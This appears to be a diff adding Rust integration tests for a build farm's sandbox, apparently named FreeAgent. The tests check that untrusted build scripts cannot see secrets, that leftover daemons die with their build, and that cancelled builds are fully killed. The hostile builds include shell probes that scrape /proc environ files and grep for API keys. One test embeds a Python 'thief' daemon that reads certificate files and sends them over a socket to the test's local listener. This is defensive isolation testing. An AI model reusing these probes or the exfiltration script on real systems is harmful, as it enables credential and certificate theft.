@@ -1,0 +1,414 @@
+//! Builds are untrusted code: with the real binaries, a hostile `build.sh` finds no secret in its
+//! environment, the worker's processes or files; what it leaves running (even after `setsid`)
+//! dies with it, so it never reads the next build's certs; a cancel ends every process it
+//! started; concurrent builds run as different uids; and `FREEAGENT_SANDBOX=none` says loudly
+//! that builds are not isolated.
+#![allow(clippy::expect_used, clippy::unwrap_used)]
+
+use freeagent_tests::freeagent_shared::testing::wait;
+use freeagent_tests::{API_KEY, Farm, FarmOpts, SECRET, pack, project};
+use serde_json::Value;
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+
+fn env(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+    pairs
+        .iter()
+        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
+        .collect()
+}
+
+/// Host pids and real uids of the processes whose command line contains `marker`.
+fn processes_with(marker: &str) -> Vec<(i32, u32)> {
+    let me = std::process::id() as i32;
+    std::fs::read_dir("/proc")
+        .unwrap()
+        .filter_map(|e| e.ok()?.file_name().to_str()?.parse::<i32>().ok())
+        .filter(|pid| *pid != me)
+        .filter_map(|pid| {
+            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
+            if !String::from_utf8_lossy(&cmdline).contains(marker) {
+                return None;
+            }
+            let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
+            if status.contains("\nState:\tZ") {
+                return None;
+            }
+            let uid = status
+                .lines()
+                .find_map(|l| l.strip_prefix("Uid:"))?
+                .split_whitespace()
+                .next()?
+                .parse()
+                .ok()?;
+            Some((pid, uid))
+        })
+        .collect()
+}
+
+async fn wait_none_left(marker: &str, within: Duration) -> Duration {
+    let started = Instant::now();
+    loop {
+        let left = processes_with(marker);
+        if left.is_empty() {
+            return started.elapsed();
+        }
+        assert!(
+            started.elapsed() < within,
+            "processes {left:?} of the build still run {within:?} after it ended"
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+}
+
+async fn submit_with_certs(farm: &Farm, dir: &std::path::Path, certs: &[u8]) -> String {
+    let form = reqwest::multipart::Form::new()
+        .text("platform", "android")
+        .part(
+            "source",
+            reqwest::multipart::Part::bytes(pack(dir)).file_name("s.tar.gz"),
+        )
+        .part(
+            "certs",
+            reqwest::multipart::Part::bytes(certs.to_vec()).file_name("certs.p12"),
+        );
+    let r = farm
+        .http
+        .post(format!("{}/api/builds", farm.gateway))
+        .header("x-api-key", API_KEY)
+        .multipart(form)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 201);
+    r.json::<Value>().await.unwrap()["id"]
+        .as_str()
+        .unwrap()
+        .to_owned()
+}
+
+/// Whether these tests (and so the workers they start) run as root: then builds get uids of
+/// their own; otherwise they keep the worker's, in a user namespace.
+fn is_root() -> bool {
+    std::fs::read_to_string("/proc/self/status")
+        .unwrap()
+        .lines()
+        .find_map(|l| l.strip_prefix("Uid:"))
+        .and_then(|ids| ids.split_whitespace().nth(1).map(|u| u == "0"))
+        .unwrap()
+}
+
+fn id_of(submitted: Value) -> String {
+    submitted["id"].as_str().unwrap().to_owned()
+}
+
+/// What every connection to a local TCP port sent: a build's way out (the network is not
+/// isolated), used here as a daemon's exfiltration channel.
+async fn listener() -> (u16, Arc<Mutex<String>>) {
+    let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = l.local_addr().unwrap().port();
+    let got = Arc::new(Mutex::new(String::new()));
+    let sink = got.clone();
+    tokio::spawn(async move {
+        while let Ok((mut s, _)) = l.accept().await {
+            let sink = sink.clone();
+            tokio::spawn(async move {
+                let mut buf = Vec::new();
+                let _ = tokio::io::AsyncReadExt::read_to_end(&mut s, &mut buf).await;
+                sink.lock()
+                    .unwrap()
+                    .push_str(&String::from_utf8_lossy(&buf));
+            });
+        }
+    });
+    (port, got)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_build_finds_no_secret_in_its_environment_the_workers_processes_or_files() {
+    let farm = Farm::start(FarmOpts::default()).await;
+    let worker = farm.pid("worker-0").unwrap();
+    let data = farm.data.path().display().to_string();
+    let dir = project(&format!(
+        "echo '--- env'\n\
+         env\n\
+         echo '--- worker'\n\
+         if [ -e /proc/{worker} ]; then echo 'WORKER PROCESS VISIBLE'; fi\n\
+         tr '\\0' '\\n' < /proc/{worker}/environ\n\
+         tr '\\0' ' ' < /proc/{worker}/cmdline; echo\n\
+         ls -l /proc/{worker}/cwd/ /proc/{worker}/root/{data}\n\
+         echo '--- every process'\n\
+         ls /proc\n\
+         for f in /proc/*/environ; do echo \"$f\"; tr '\\0' '\\n' < \"$f\"; done\n\
+         # (Patterns split in two, so that this script does not find itself.)\n\
+         echo '--- files'\n\
+         ls -la {data} {data}/work /tmp /var/tmp /dev/shm\n\
+         cat {data}/*.log | tail -n 50\n\
+         find {data} -type f 2>&1 | head -n 50\n\
+         grep -rsI -D skip -e 'FREEAGENT_''API_KEY' -e 'si''g=' {data} /root /home /etc 2>/dev/null | head -n 20\n\
+         echo '--- end'\n\
+         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n"
+    ));
+    let id = id_of(farm.submit_dir(dir.path(), "android").await);
+    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
+    assert_eq!(b["status"], "completed", "{b}");
+    let logs = farm.logs(&id).await;
+    let all = logs.join("\n");
+
+    // The build ran its probes, and printed its environment: only the documented variables.
+    assert!(all.contains("--- end"), "{all}");
+    let start = logs.iter().position(|l| l == "--- env").unwrap();
+    let end = logs.iter().position(|l| l == "--- worker").unwrap();
+    let names: Vec<&str> = logs[start + 1..end]
+        .iter()
+        .filter_map(|l| l.split_once('=').map(|(k, _)| k))
+        .collect();
+    assert!(names.contains(&"FREEAGENT_BUILD_ID"), "{names:?}");
+    for name in &names {
+        assert!(
+            [
+                "FREEAGENT_BUILD_ID",
+                "FREEAGENT_ATTEMPT",
+                "FREEAGENT_PLATFORM",
+                "FREEAGENT_SOURCE_DIR",
+                "FREEAGENT_OUTPUT_DIR",
+                "PATH",
+                "HOME",
+                "TMPDIR",
+                "LANG",
+                // Set by the shell itself.
+                "PWD",
+                "OLDPWD",
+                "SHLVL",
+                "_",
+            ]
+            .contains(name),
+            "the build saw {name}: {names:?}"
+        );
+    }
+    assert!(!all.contains("WORKER PROCESS VISIBLE"), "{all}");
+    for secret in [
+        API_KEY,
+        SECRET,
+        farm.db.url.as_str(),
+        "FREEAGENT_NATS",
+        "sig=",
+    ] {
+        assert!(
+            !all.contains(secret),
+            "the build's log holds {secret:?}:\n{all}"
+        );
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_setsid_daemon_dies_with_its_build_and_the_scratch_directory_is_deleted() {
+    let farm = Farm::start(FarmOpts::default()).await;
+    let marker = format!("fa-daemon-{}", uuid::Uuid::new_v4());
+    let dir = project(&format!(
+        "setsid sh -c 'while true; do date > /tmp/x; sleep 0.1; done; : {marker}' > /dev/null 2>&1 &\n\
+         echo scratch > \"$HOME/file\"\n\
+         i=0; while [ ! -s /tmp/x ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done\n\
+         if [ -s /tmp/x ]; then echo 'daemon running'; fi\n\
+         echo \"home=$HOME\"\n\
+         sleep 1\n\
+         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n"
+    ));
+    let id = id_of(farm.submit_dir(dir.path(), "android").await);
+    // The daemon runs (and this test can see it from the host) while the build does.
+    wait::until("the daemon to start", Duration::from_secs(30), || async {
+        (!processes_with(&marker).is_empty()).then_some(())
+    })
+    .await;
+    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
+    assert_eq!(b["status"], "completed", "{b}");
+    let took = wait_none_left(&marker, Duration::from_secs(2)).await;
+    eprintln!("the daemon was gone {took:?} after the build was seen to end");
+    let logs = farm.logs(&id).await;
+    assert!(logs.iter().any(|l| l == "daemon running"), "{logs:?}");
+
+    // HOME was the build's scratch, inside its workspace; the workspace is gone.
+    let home = logs
+        .iter()
+        .find_map(|l| l.strip_prefix("home="))
+        .unwrap()
+        .to_owned();
+    assert!(home.starts_with(&farm.data.path().join("work").display().to_string()));
+    wait::until(
+        "the workspace to be deleted",
+        Duration::from_secs(5),
+        || async {
+            std::fs::read_dir(farm.data.path().join("work"))
+                .unwrap()
+                .next()
+                .is_none()
+                .then_some(())
+        },
+    )
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_daemon_left_by_one_build_never_reads_the_next_builds_certs() {
+    let farm = Farm::start(FarmOpts {
+        workers: 1,
+        // Not root, builds share the worker's uid: certs need the operator's explicit yes.
+        extra_env: if is_root() {
+            vec![]
+        } else {
+            env(&[("FREEAGENT_SANDBOX", "userns")])
+        },
+        ..Default::default()
+    })
+    .await;
+    let (port, got) = listener().await;
+    let marker = format!("fa-thief-{}", uuid::Uuid::new_v4());
+    let work = farm.data.path().join("work").display().to_string();
+    // The thief sends every certs file it can read to the test's port, over and over: its
+    // own (proof that the channel works) and, if it could, the next build's.
+    let thief = r#"
+import glob, os, socket, sys, time
+port = int(sys.argv[1])
+while True:
+    paths = glob.glob(sys.argv[2] + '/*/certs') + glob.glob('/tmp/**/certs', recursive=True)
+    for f in paths + [os.environ.get('FREEAGENT_CERTS_PATH', '')]:
+        try:
+            data = open(f).read()
+            s = socket.create_connection(('127.0.0.1', port), timeout=1)
+            s.sendall((f + ': ' + data + '\n').encode())
+            s.close()
+        except Exception:
+            pass
+    time.sleep(0.05)
+"#;
+    let first = project(&format!(
+        "cat > \"$TMPDIR/thief.py\" <<'EOF'\n{thief}\nEOF\n\
+         setsid python3 \"$TMPDIR/thief.py\" {port} {work} {marker} > /dev/null 2>&1 &\n\
+         sleep 1\n\
+         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n"
+    ));
+    let second = project(
+        "stat -c 'certs owner %u mode %a' \"$FREEAGENT_CERTS_PATH\"\n\
+         echo \"uid $(id -u)\"\n\
+         sleep 1\n\
+         echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n",
+    );
+    let one = submit_with_certs(&farm, first.path(), b"CERTS-OF-BUILD-ONE").await;
+    let b = farm.wait_terminal(&one, Duration::from_secs(60)).await;
+    assert_eq!(b["status"], "completed", "{b}");
+    assert!(
+        got.lock().unwrap().contains("CERTS-OF-BUILD-ONE"),
+        "the thief never reported (is python3 installed?): {:?}",
+        farm.logs(&one).await
+    );
+    wait_none_left(&marker, Duration::from_secs(2)).await;
+
+    let two = submit_with_certs(&farm, second.path(), b"CERTS-OF-BUILD-TWO").await;
+    let b = farm.wait_terminal(&two, Duration::from_secs(60)).await;
+    assert_eq!(b["status"], "completed", "{b}");
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    let stolen = got.lock().unwrap().clone();
+    assert!(
+        !stolen.contains("CERTS-OF-BUILD-TWO"),
+        "build one's daemon read build two's certs:\n{stolen}"
+    );
+    // The second build's certs were its uid's alone.
+    let logs = farm.logs(&two).await;
+    let uid = logs
+        .iter()
+        .find_map(|l| l.strip_prefix("uid "))
+        .unwrap()
+        .to_owned();
+    assert!(
+        logs.contains(&format!("certs owner {uid} mode 600")),
+        "{logs:?}"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn cancel_ends_every_process_a_sandboxed_build_started() {
+    let farm = Farm::start(FarmOpts {
+        extra_env: env(&[("FREEAGENT_KILL_GRACE", "1s")]),
+        ..Default::default()
+    })
+    .await;
+    let marker = format!("fa-stubborn-{}", uuid::Uuid::new_v4());
+    // Both the build and its daemon ignore SIGTERM: only the SIGKILL after the grace ends them.
+    let dir = project(&format!(
+        "setsid sh -c 'trap \"\" TERM; while true; do sleep 0.1; done; : {marker}' > /dev/null 2>&1 &\n\
+         exec sh -c 'trap \"\" TERM; while true; do sleep 0.1; done; : {marker}'\n"
+    ));
+    let id = id_of(farm.submit_dir(dir.path(), "android").await);
+    wait::until("both processes to run", Duration::from_secs(30), || async {
+        (processes_with(&marker).len() >= 2).then_some(())
+    })
+    .await;
+    let r = farm
+        .http
+        .post(format!("{}/api/builds/{id}/cancel", farm.gateway))
+        .header("x-api-key", API_KEY)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), 200);
+    let took = wait_none_left(&marker, Duration::from_secs(4)).await;
+    eprintln!("every process of the cancelled build was gone after {took:?}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn builds_running_at_once_run_as_different_uids() {
+    if !is_root() {
+        eprintln!("not root: builds keep the worker's uid; nothing to check");
+        return;
+    }
+    let farm = Farm::start(FarmOpts {
+        extra_env: env(&[
+            ("FREEAGENT_WORKER_MAX_CONCURRENT", "2"),
+            ("FREEAGENT_WORKER_PLATFORMS", "android"),
+        ]),
+        ..Default::default()
+    })
+    .await;
+    let marker = format!("fa-pair-{}", uuid::Uuid::new_v4());
+    let dir = project(&format!("exec sh -c 'sleep 60; : {marker}'\n"));
+    let a = id_of(farm.submit_dir(dir.path(), "android").await);
+    let b = id_of(farm.submit_dir(dir.path(), "android").await);
+    let uids: Vec<u32> = wait::until("both builds to run", Duration::from_secs(30), || async {
+        let mut uids: Vec<u32> = processes_with(&marker).into_iter().map(|p| p.1).collect();
+        uids.sort();
+        uids.dedup();
+        (uids.len() == 2).then_some(uids)
+    })
+    .await;
+    // Builds get uids of their own, never root's.
+    assert!(uids.iter().all(|u| *u != 0), "{uids:?}");
+    for id in [a, b] {
+        farm.http
+            .post(format!("{}/api/builds/{id}/cancel", farm.gateway))
+            .header("x-api-key", API_KEY)
+            .send()
+            .await
+            .unwrap();
+    }
+    wait_none_left(&marker, Duration::from_secs(10)).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sandbox_none_runs_builds_with_a_warning_in_every_log() {
+    let farm = Farm::start(FarmOpts {
+        extra_env: env(&[("FREEAGENT_SANDBOX", "none")]),
+        ..Default::default()
+    })
+    .await;
+    let dir = project("echo ok > \"$FREEAGENT_OUTPUT_DIR/a.apk\"\n");
+    let id = id_of(farm.submit_dir(dir.path(), "android").await);
+    let b = farm.wait_terminal(&id, Duration::from_secs(60)).await;
+    assert_eq!(b["status"], "completed", "{b}");
+    let logs = farm.logs(&id).await;
+    assert!(
+        logs.iter()
+            .any(|l| l.contains("WARNING: FREEAGENT_SANDBOX=none: this build is not isolated")),
+        "{logs:?}"
+    );
+    assert!(farm.log_of("worker-0").contains("BUILDS ARE NOT ISOLATED"));
+}
